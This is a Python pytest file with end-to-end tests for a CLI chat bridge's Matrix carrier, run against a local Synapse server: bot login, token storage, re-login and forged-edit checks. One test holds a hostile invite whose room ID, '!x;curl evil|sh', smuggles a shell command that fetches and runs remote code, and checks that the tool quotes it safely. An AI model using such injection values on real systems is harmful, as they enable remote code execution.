"""The Matrix carrier end to end through the CLI, against a real Synapse: bots logged in
with a password, two (then three) users in one room, one poll across a long gap."""

from __future__ import annotations

import itertools
import json
import os
import subprocess
from pathlib import Path
from urllib.parse import quote

import pytest
from carrier_acceptance import Members, a_file_a_reply_an_edit_a_delete_and_forgeries, post_as_bot
from pointerbridge.home.config import load_config
from servers.synapse import Synapse, shared_server
from test_cli import PHRASE, initialised_home, run
from test_local_app import CHAT_SECRET, _invite, ok, pb

BOT_PASSWORD = "the bots' password 9"
LINES = [f"message {i:03d} from alice" for i in range(299)]
BIG = "".join(f"line {i:05d} of a hundred-kilobyte letter, with ünïcödé.\n" for i in range(2_000))[:100_000]
_names = itertools.count()


def bot(server: Synapse, prefix: str) -> str:
    """A fresh bot account; its password is BOT_PASSWORD."""
    name = f"{prefix}{next(_names)}p{os.getpid()}"
    server.register(name, BOT_PASSWORD)
    return name


def login(home: Path, *args: str, password: str = BOT_PASSWORD) -> subprocess.CompletedProcess[str]:
    """``pbridge carrier login matrix ...`` with the password on a pipe, as a script would,
    in ``home`` (initialised first: only init makes a home)."""
    if not (home / "store.db").exists():
        made = run("--home", str(home), "init", "--username", "bot", env=PHRASE)
        assert made.returncode == 0, made.stderr
    read_end, write_end = os.pipe()
    os.write(write_end, password.encode() + b"\n")
    os.close(write_end)
    try:
        return run(
            "--home",
            str(home),
            "carrier",
            "login",
            "matrix",
            *args,
            "--password-fd",
            str(read_end),
            pass_fds=(read_end,),
        )
    finally:
        os.close(read_end)


def login_ok(home: Path, *args: str) -> str:
    result = login(home, *args)
    assert result.returncode == 0, result
    return result.stdout


def poll(home: Path, user: str) -> dict[str, dict[str, object]]:
    data: dict[str, dict[str, object]] = json.loads(ok(home, user, "poll", "--json"))
    return data


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    server = shared_server()
    root = tmp_path_factory.mktemp("matrix-e2e")
    alice, bob = root / "alice", root / "bob"
    alice_bot, bob_bot = bot(server, "alicebot"), bot(server, "bobbot")
    for home, user in ((alice, "alice"), (bob, "bob")):
        ok(home, user, "init", "--username", user, "--weak-secret-ok")
    login_ok(
        alice,
        "mx",
        "--homeserver",
        server.url,
        "--user",
        alice_bot,
        "--create-room",
        "--invite",
        f"@{bob_bot}:localhost",
    )
    room_id = load_config(alice / "config.toml").carriers["mx"].settings["room_id"]
    ok(alice, "alice", "chat", "create", "Family", "--carrier", "mx", "--weak-secret-ok")
    invite = ok(alice, "alice", "chat", "invite", "family", "--no-qr").strip()
    # Bob names his carrier differently: the invite finds it by its room.
    login_ok(bob, "home-room", "--homeserver", server.url, "--user", bob_bot, "--room", room_id, "--start", "now")
    assert "home-room" in ok(bob, "bob", "chat", "join", invite)
    assert poll(bob, "bob")["errors"] == {}  # Bob's bot is online once, then off for everything below

    ok(alice, "alice", "send", "family", "-", "--lines", "--queue", stdin="\n".join(LINES))
    ok(alice, "alice", "send", "family", "-", "--queue", stdin=BIG)
    sent = poll(alice, "alice")
    bob_poll = poll(bob, "bob")
    return {
        "server": server,
        "root": root,
        "alice": alice,
        "bob": bob,
        "room_id": room_id,
        "invite": invite,
        "sent": sent,
        "bob_poll": bob_poll,
    }


def test_one_poll_brings_every_pointer_once_and_bob_reads_all_300_in_order(room: dict[str, object]) -> None:
    sent, got = room["sent"], room["bob_poll"]
    assert isinstance(sent, dict) and isinstance(got, dict)
    posted = sent["posted"]["mx"]
    assert posted >= 300 + 3  # the 100 KB letter travels as several pointers of at most 32,000 characters
    assert posted > 100  # more than the sync filter's timeline: the one poll crossed a `limited` gap
    assert got["errors"] == {}
    assert got["received"] == {"home-room": posted} and got["known"] == {"home-room": 0}
    bob = room["bob"]
    assert isinstance(bob, Path)
    data = json.loads(ok(bob, "bob", "read", "family", "--json"))
    assert [m["body"] for m in data["messages"]] == [*LINES, BIG]
    assert {m["username"] for m in data["messages"]} == {"alice"} and data["refused"] == 0
    assert poll(bob, "bob")["received"] == {"home-room": 0}


def test_a_member_who_logs_in_later_reads_the_room_history(room: dict[str, object]) -> None:
    carol = Path(str(room["root"])) / "carol"
    server = room["server"]
    assert isinstance(server, Synapse)
    carol_bot = bot(server, "carolbot")
    alice_token = (Path(str(room["alice"])) / "tokens" / "mx.token").read_text().strip()
    server.request(
        "POST",
        f"/_matrix/client/v3/rooms/{room['room_id']}/invite",
        {"user_id": f"@{carol_bot}:localhost"},
        alice_token,
    )
    ok(carol, "carol", "init", "--username", "carol", "--weak-secret-ok")
    login_ok(carol, "mx", "--homeserver", server.url, "--user", carol_bot, "--room", str(room["room_id"]))
    ok(carol, "carol", "chat", "join", str(room["invite"]))
    got = poll(carol, "carol")  # start = history (the login's default): pages back through the room
    assert got["errors"] == {} and got["received"] == room["sent"]["posted"]  # type: ignore[index]
    data = json.loads(ok(carol, "carol", "read", "family", "--json"))
    assert [m["body"] for m in data["messages"]] == [*LINES, BIG]


def test_login_keeps_the_token_in_a_private_file_and_never_the_password(room: dict[str, object]) -> None:
    alice = Path(str(room["alice"]))
    settings = load_config(alice / "config.toml").carriers["mx"].settings
    token_file = Path(settings["access_token_file"])
    assert token_file == alice / "tokens" / "mx.token"
    assert token_file.stat().st_mode & 0o777 == 0o600 and token_file.parent.stat().st_mode & 0o777 == 0o700
    token = token_file.read_text().strip()
    assert len(token) > 10 and settings["device_id"] and "access_token_env" not in settings
    assert token.encode() not in (alice / "config.toml").read_bytes()
    for path in Path(str(room["root"])).rglob("*"):
        if path.is_file():
            assert BOT_PASSWORD.encode() not in path.read_bytes(), path


def _devices(server: Synapse, token: str) -> set[str]:
    return {d["device_id"] for d in server.request("GET", "/_matrix/client/v3/devices", token=token)["devices"]}


def test_logging_in_again_logs_the_old_device_out(tmp_path: Path) -> None:
    server = shared_server()
    name = bot(server, "againbot")
    home = tmp_path / "home"
    login_ok(home, "mx", "--homeserver", server.url, "--user", name, "--create-room")
    first = load_config(home / "config.toml").carriers["mx"].settings
    old_token = Path(first["access_token_file"]).read_text().strip()
    result = login(home, "mx")  # everything else from the saved settings
    assert result.returncode == 0, result
    assert f"the old device {first['device_id']} was logged out" in result.stderr
    second = load_config(home / "config.toml").carriers["mx"].settings
    assert second["device_id"] != first["device_id"] and second["room_id"] == first["room_id"]
    with pytest.raises(RuntimeError, match="401"):
        server.request("GET", "/_matrix/client/v3/account/whoami", token=old_token)
    assert first["device_id"] not in _devices(server, Path(second["access_token_file"]).read_text().strip())
    assert json.loads(run("--home", str(home), "poll", "--json").stdout)["errors"] == {}


def test_a_wrong_password_or_a_missing_room_changes_nothing(tmp_path: Path) -> None:
    server = shared_server()
    name = bot(server, "failbot")
    home = tmp_path / "home"
    wrong = login(home, "mx", "--homeserver", server.url, "--user", name, "--create-room", password="not it")
    assert wrong.returncode == 24 and "refused" in wrong.stderr and len(wrong.stderr.splitlines()) == 1
    assert "not it" not in wrong.stderr + wrong.stdout
    assert not (home / "config.toml").exists() and not (home / "tokens" / "mx.token").exists()
    probe = server.request(
        "POST",
        "/_matrix/client/v3/login",
        {"type": "m.login.password", "identifier": {"type": "m.id.user", "user": name}, "password": BOT_PASSWORD},
    )
    before = _devices(server, probe["access_token"])
    missing = login(home, "mx", "--homeserver", server.url, "--user", name, "--room", "!nowhere:localhost")
    assert missing.returncode == 24 and "joining" in missing.stderr and "Traceback" not in missing.stderr
    assert _devices(server, probe["access_token"]) == before  # the login's new device was logged out again
    assert not (home / "config.toml").exists()


def test_bad_login_arguments_fail_before_the_password_is_asked(tmp_path: Path) -> None:
    home = Path(initialised_home(tmp_path / "home", carrier=False))
    both = run(
        "--home",
        str(home),
        "carrier",
        "login",
        "matrix",
        "mx",
        "--homeserver",
        "http://127.0.0.1:9",
        "--user",
        "bot",
        "--room",
        "!a:b",
        "--create-room",
    )  # no password given, no terminal
    assert both.returncode == 3 and "not both" in both.stderr
    neither = run(
        "--home", str(home), "carrier", "login", "matrix", "mx", "--homeserver", "http://127.0.0.1:9", "--user", "bot"
    )
    assert neither.returncode == 3 and "--create-room" in neither.stderr
    badly_named = run(
        "--home",
        str(home),
        "carrier",
        "login",
        "matrix",
        "My Bot",
        "--homeserver",
        "http://127.0.0.1:9",
        "--user",
        "bot",
        "--create-room",
    )
    assert badly_named.returncode == 3 and "carrier name" in badly_named.stderr
    newline = run(
        "--home",
        str(home),
        "carrier",
        "login",
        "matrix",
        "mx\n",
        "--homeserver",
        "http://127.0.0.1:9",
        "--user",
        "bot",
        "--create-room",
    )
    assert newline.returncode == 3 and not (home / "tokens").exists()
    unreachable = login(home, "mx", "--homeserver", "http://127.0.0.1:9", "--user", "bot", "--create-room")
    assert unreachable.returncode == 25 and "unreachable" in unreachable.stderr


def test_joining_a_matrix_chat_without_a_bot_says_how(room: dict[str, object], tmp_path: Path) -> None:
    dave = tmp_path / "dave"
    ok(dave, "alice", "init", "--username", "dave", "--weak-secret-ok")
    result = pb(dave, "alice", "chat", "join", str(room["invite"]), secret=CHAT_SECRET)
    assert result["rc"] == "24" and "pbridge carrier login matrix mx" in result["err"]
    assert str(room["room_id"]) in result["err"] and not (dave / "config.toml").exists()
    hostile = _invite(
        {
            "v": 1,
            "chat": "trap",
            "carriers": {"mx": {"type": "matrix", "homeserver": "http://x", "room_id": "!x;curl evil|sh"}},
        }
    )
    trapped = pb(dave, "alice", "chat", "join", hostile, secret=CHAT_SECRET)
    assert trapped["rc"] == "24" and "--room '!x;curl evil|sh'" in trapped["err"]  # quoted for the shell
    unusable = _invite(
        {
            "v": 1,
            "chat": "trap",
            "carriers": {"Bad Name": {"type": "matrix", "homeserver": "http://x", "room_id": "!x:y"}},
        }
    )
    named = pb(dave, "alice", "chat", "join", unusable, secret=CHAT_SECRET)
    assert named["rc"] == "3" and "login" not in named["err"]  # no hint to log in under a name it would refuse


def test_logging_in_again_keeps_the_chosen_start(tmp_path: Path) -> None:
    server = shared_server()
    name = bot(server, "startbot")
    home = tmp_path / "home"
    login_ok(home, "mx", "--homeserver", server.url, "--user", name, "--create-room")
    assert load_config(home / "config.toml").carriers["mx"].settings["start"] == "history"  # a new bot's default
    login_ok(home, "mx", "--start", "now")
    login_ok(home, "mx")
    assert load_config(home / "config.toml").carriers["mx"].settings["start"] == "now"


def test_a_file_a_reply_an_edit_and_a_delete_over_matrix_through_the_cli(room: dict[str, object]) -> None:
    # Issue 21's acceptance over Matrix, a forged edit and delete too (runs last: it adds to
    # the room the tests above read). Mallory's pointers go through the bridge, as her bot's.
    alice, root, server = room["alice"], room["root"], room["server"]
    assert isinstance(alice, Path) and isinstance(root, Path) and isinstance(server, Synapse)
    homes = {"alice": alice, "bob": Path(str(room["bob"]))}

    def pbridge(user: str, *args: str, stdin: str = "") -> str:
        return ok(homes[user], user, *args, stdin=stdin)

    def exchange() -> None:
        for user, home in homes.items():
            assert poll(home, user)["errors"] == {}

    members = Members(
        pbridge=pbridge,
        exchange=exchange,
        post=post_as_bot("matrix", "mx", _mallorys_bot(server, alice, str(room["room_id"]))),
        chat="family",
        invite=str(room["invite"]),
        secret=CHAT_SECRET,
    )
    a_file_a_reply_an_edit_a_delete_and_forgeries(members, root)


def _mallorys_bot(server: Synapse, alice: Path, room_id: str) -> dict[str, str]:
    """A bot of mallory's, invited by alice's and joined to the room: its carrier settings."""
    account = server.register(f"mallorybot{next(_names)}p{os.getpid()}", BOT_PASSWORD)
    alice_token = (alice / "tokens" / "mx.token").read_text().strip()
    room = quote(room_id, safe="")
    server.request("POST", f"/_matrix/client/v3/rooms/{room}/invite", {"user_id": account["user_id"]}, alice_token)
    server.request("POST", f"/_matrix/client/v3/join/{room}", {}, account["access_token"])
    os.environ["PBRIDGE_TEST_MX_MALLORY"] = account["access_token"]
    return {
        "homeserver": server.url,
        "user_id": account["user_id"],
        "device_id": account["device_id"],
        "access_token_env": "PBRIDGE_TEST_MX_MALLORY",
        "room_id": room_id,
    }
